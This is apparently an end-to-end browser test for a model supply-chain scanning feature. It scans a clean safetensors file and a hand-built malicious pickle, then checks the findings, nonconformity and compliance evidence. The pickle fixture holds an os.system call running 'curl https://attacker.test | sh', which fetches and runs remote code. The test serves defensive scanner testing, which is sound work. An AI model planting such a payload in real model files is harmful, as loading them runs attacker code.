import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { scanPaths } from "@openaims/modelscan";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  a11yProblems,
  callApiFromPage,
  reportWhereStopped,
  screenshotIfAsked,
  startBrowserHarness,
  watchCspErrors,
} from "./harness.js";

const SYSTEM = "Credit decisioning";
const ASSET = "credit-scorer-v3";

/** A safetensors file with one F32 tensor of two values: an 8-byte header length, the JSON header, the data. */
function safetensors(): Buffer {
  const header = Buffer.from(JSON.stringify({ weight: { dtype: "F32", shape: [2], data_offsets: [0, 8] } }));
  const padded = Buffer.concat([header, Buffer.alloc((8 - (header.length % 8)) % 8, 0x20)]);
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(padded.length));
  return Buffer.concat([length, padded, Buffer.alloc(8)]);
}

/** A protocol-0 pickle written opcode by opcode (GLOBAL os.system, MARK, STRING, TUPLE, REDUCE, STOP), never pickled. */
const maliciousPickle = Buffer.from("cos\nsystem\n(S'curl https://attacker.test | sh'\ntR.", "latin1");

/**
 * Someone who checks the models an AI system uses: the empty Model scans page says how to scan, a
 * report the scanner wrote is uploaded for the model's asset, the scan page shows the malicious file's
 * findings and raises a nonconformity from one, the asset page shows the latest scan and scans a file
 * on the server, and the scan's evidence is on the supply-chain control and on the asset, whose page lists it.
 */
describe("model scans in the browser", () => {
  let h: Awaited<ReturnType<typeof startBrowserHarness>>;
  let dir: string;
  beforeAll(async () => {
    h = await startBrowserHarness();
    dir = mkdtempSync(join(tmpdir(), "aims-supply-chain-"));
  });
  afterAll(async () => {
    await h?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("records a model scan, acts on a finding, and shows it on the asset and the control", async () => {
    const context = await h.browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    const cspErrors = await watchCspErrors(page);
    const a11y: string[] = [];
    const check = async (what: string) => {
      a11y.push(...(await a11yProblems(page, what)));
      await screenshotIfAsked(page, what);
    };
    const pageErrors: string[] = [];
    page.on("pageerror", (error) => pageErrors.push(error.message));
    reportWhereStopped(page);
    const nav = (label: string) => page.getByRole("navigation").getByRole("link", { name: label, exact: true });

    await page.goto(`${h.baseUrl}/setup`);
    await page.getByLabel("Setup code").fill(h.server.setupCode as string);
    await page.getByLabel("Organisation name").fill("Northwind Lending");
    await page.getByLabel("Your name").fill("Mo Models");
    await page.getByLabel("E-mail").fill("mo@northwind.test");
    await page.getByRole("textbox", { name: "Password", exact: false }).first().fill("a long enough password");
    await page.getByRole("button", { name: "Set up" }).click();
    await page.waitForURL(/\/o\/[0-9a-f-]{36}/);
    const orgId = (page.url().match(/\/o\/([0-9a-f-]{36})/) as RegExpMatchArray)[1] as string;
    const base = `/api/v1/orgs/${orgId}`;
    const system = await callApiFromPage(page, "POST", `${base}/systems`, {
      name: SYSTEM,
      ourRole: "provider",
      impactTier: "high",
      highImpactReasons: ["eligibility", "financial"],
      autonomy: "advisory",
    });
    expect(system.status, JSON.stringify(system.json)).toBe(201);
    const asset = await callApiFromPage(page, "POST", `${base}/assets`, { name: ASSET, kind: "model" });
    expect(asset.status, JSON.stringify(asset.json)).toBe(201);
    const link = await callApiFromPage(page, "POST", `${base}/systems/${system.json.id}/asset-links`, {
      assetId: asset.json.id,
    });
    expect(link.status, JSON.stringify(link.json)).toBe(201);

    // 1. The empty Model scans page says how to scan and upload.
    await nav("Model scans").click();
    await page.getByRole("heading", { name: "Model scans", level: 1 }).waitFor();
    await page.getByRole("heading", { name: "No model scans yet" }).waitFor();
    await page.getByText("aims model scan ./models/credit-scorer --upload", { exact: false }).waitFor();
    await check("model scans empty");

    // 2. The scanner reads a model folder (a malicious pickle beside a clean safetensors file) and its report is uploaded.
    const folder = join(dir, "credit-scorer");
    mkdirSync(folder);
    writeFileSync(join(folder, "model.safetensors"), safetensors());
    writeFileSync(join(folder, "training_args.bin"), maliciousPickle);
    const report = await scanPaths([folder]);
    expect(report.summary.highestSeverity).toBe("critical");
    const signature = {
      status: "failed",
      predicateType: "https://model_signing/signature/v1.0",
      signer: "ECDSA P-256 key 3f9a…c21d",
      changed: ["training_args.bin"],
      added: [],
      removed: [],
      reason: "training_args.bin does not match the digest the signature lists.",
    };
    const uploaded = await callApiFromPage(page, "POST", `${base}/model-scans`, {
      asset: ASSET,
      system: system.json.id,
      report,
      signature,
    });
    expect(uploaded.status, JSON.stringify(uploaded.json)).toBe(201);

    // 3. The list shows the scan with its verdict, counts and signature status.
    await page.reload();
    const row = page.getByRole("row", { name: /MS-1/ });
    await row.getByText("Unsafe", { exact: true }).waitFor();
    await row.getByText("Signature check failed", { exact: true }).waitFor();
    await expect(row.getByRole("cell").nth(1).textContent()).resolves.toBe(ASSET);
    await check("model scans list");

    // 4. The scan page: verdict, signature, files by format, findings grouped by file.
    await page.getByRole("link", { name: "MS-1", exact: true }).click();
    await page.getByRole("heading", { name: `MS-1 · ${ASSET}`, level: 1 }).waitFor();
    await page.getByText("training_args.bin does not match the digest the signature lists.").waitFor();
    const files = page.getByRole("region", { name: "Files" });
    await files
      .getByRole("row", { name: /model\.safetensors/ })
      .getByText("safetensors", { exact: true })
      .waitFor();
    await files
      .getByRole("row", { name: /training_args\.bin/ })
      .getByText("Python pickle")
      .waitFor();
    const pickleFindings = page.getByRole("region", { name: "Findings in training_args.bin" });
    await pickleFindings.getByText("Critical", { exact: true }).first().waitFor();
    await expect(page.getByRole("region", { name: "Findings in model.safetensors" }).count()).resolves.toBe(0);
    await check("model scan page");

    // 5. Raise a nonconformity from the critical finding in one action.
    const raise = pickleFindings.getByRole("button", { name: /^Raise nonconformity from / }).first();
    await raise.click();
    await page.getByText(/^Nonconformity NC-1 was recorded\.$/).waitFor();
    await pickleFindings.getByText("Nonconformity raised", { exact: true }).waitFor();
    await pickleFindings.getByRole("link", { name: "NC-1" }).waitFor();
    await check("model scan page after raising a nonconformity");

    // 6. The asset page shows the latest scan, and scans an uploaded file on the server.
    await page.getByRole("link", { name: ASSET }).first().click();
    await page.getByRole("heading", { name: ASSET, level: 1 }).waitFor();
    const panel = page.getByRole("region", { name: "Supply chain" });
    await panel.getByRole("link", { name: "MS-1" }).waitFor();
    await panel.getByText("Unsafe", { exact: true }).waitFor();
    await panel.getByText("Signature check failed", { exact: true }).waitFor();
    await panel.getByText(`A component of the AI-BOM of ${SYSTEM}`, { exact: false }).waitFor();
    const bomLink = panel.getByRole("link", { name: `Download the AI-BOM of ${SYSTEM}` });
    const bom = await callApiFromPage(page, "GET", (await bomLink.getAttribute("href")) as string);
    expect(bom.status).toBe(200);
    expect(bom.json.bomFormat).toBe("CycloneDX");
    expect(JSON.stringify(bom.json.components)).toContain(ASSET);
    await check("asset page supply chain panel");
    await panel
      .locator('input[type="file"]')
      .setInputFiles({ name: "adapter.pkl", mimeType: "application/octet-stream", buffer: maliciousPickle });
    await panel.getByRole("button", { name: "Scan on the server" }).click();
    await panel.getByRole("status").getByRole("link", { name: "MS-2" }).waitFor();
    await panel.getByRole("link", { name: "MS-2" }).first().waitFor();
    await check("asset page after a server-side scan");

    // 7. The scan's evidence is on the supply-chain control A.10.3.
    await panel.getByRole("link", { name: "All scans of this asset" }).click();
    await page.getByRole("heading", { name: "Model scans", level: 1 }).waitFor();
    await page.getByText(`Showing the scans of ${ASSET}.`).waitFor();
    await page.getByRole("link", { name: "MS-1", exact: true }).click();
    await page.getByRole("heading", { name: `MS-1 · ${ASSET}`, level: 1 }).waitFor();
    await page.getByRole("link", { name: "E-1", exact: true }).click();
    await page.getByRole("heading", { name: /^E-1 · Model scan MS-1 of credit-scorer-v3: unsafe/ }).waitFor();
    for (const ref of ["A.10.3", "A.7.5", "A.4.4"])
      await page.getByRole("row", { name: new RegExp(ref.replace(/\./g, "\\.")) }).waitFor();
    await page.getByRole("row", { name: new RegExp(SYSTEM) }).waitFor();
    await check("scan evidence record");

    // 8. The evidence is filed on the asset too: its link opens the asset page, which lists both scans' evidence.
    const linked = page.getByRole("region", { name: "Linked to", exact: true });
    await linked.getByRole("row", { name: /Inventory asset/ }).waitFor();
    await linked.getByRole("link", { name: ASSET, exact: true }).click();
    await page.getByRole("heading", { name: ASSET, level: 1 }).waitFor();
    const assetEvidence = page.getByRole("region", { name: "Evidence", exact: true });
    await assetEvidence.getByRole("link", { name: /^Model scan MS-1 of credit-scorer-v3/ }).waitFor();
    await assetEvidence.getByRole("link", { name: /^Model scan MS-2 of credit-scorer-v3/ }).waitFor();
    await check("asset page with the scans' evidence");
    const controls = await callApiFromPage(page, "GET", `${base}/controls?limit=200`);
    const supplier = (controls.json.items as { id: string; ref: string }[]).find((c) => c.ref === "A.10.3");
    expect(supplier).toBeDefined();
    await page.goto(`${h.baseUrl}/o/${orgId}/controls/${supplier?.id}`);
    await page.getByRole("heading", { name: /A\.10\.3/, level: 1 }).waitFor();
    await page.getByRole("listitem").filter({ hasText: "E-1" }).first().waitFor();
    await check("supplier control with the scan evidence");

    await nav("Licences").click();
    await page.getByRole("heading", { name: "Licences", level: 1 }).waitFor();
    await page.getByText(ASSET, { exact: true }).first().waitFor();
    await check("licences page with the policy and each asset's verdict");

    expect(a11y).toEqual([]);
    expect(cspErrors).toEqual([]);
    expect(pageErrors).toEqual([]);
    await context.close();
  });
});
